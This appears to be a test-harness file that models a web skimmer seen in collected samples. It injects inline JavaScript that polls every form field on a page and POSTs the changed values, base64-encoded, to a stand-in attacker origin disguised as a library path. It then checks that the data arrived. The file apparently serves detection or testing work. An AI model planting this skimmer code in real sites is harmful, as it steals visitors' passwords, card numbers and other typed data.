import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'every-input-polling',
  why: 'Every input, select and text area of the page by a timer, whatever it is called, and only what changed is sent (36 of 88 samples).',
  covers: ['reading: polling', 'reading: every input', 'sending: XHR'],
  base: 'direct',
  install: (site) =>
    site.inline(js`(function () {
  var before = '';
  setInterval(function () {
    var all = {};
    document.querySelectorAll('input,select,textarea').forEach(function (e, i) { if (e.value) all[e.name || e.id || i] = e.value; });
    var now = JSON.stringify(all);
    if (now === before || now.length < 40) return;
    before = now;
    var x = new XMLHttpRequest();
    x.open('POST', '${site.origins.evil}/ajax/libs/save.js');
    x.send('data=' + encodeURIComponent(btoa(unescape(encodeURIComponent(now)))));
  }, 300);
})();`),
  proof: holds((arrived) =>
    bodies(arrived).map((body) => base64(new URLSearchParams(body).get('data') ?? '')),
  ),
});
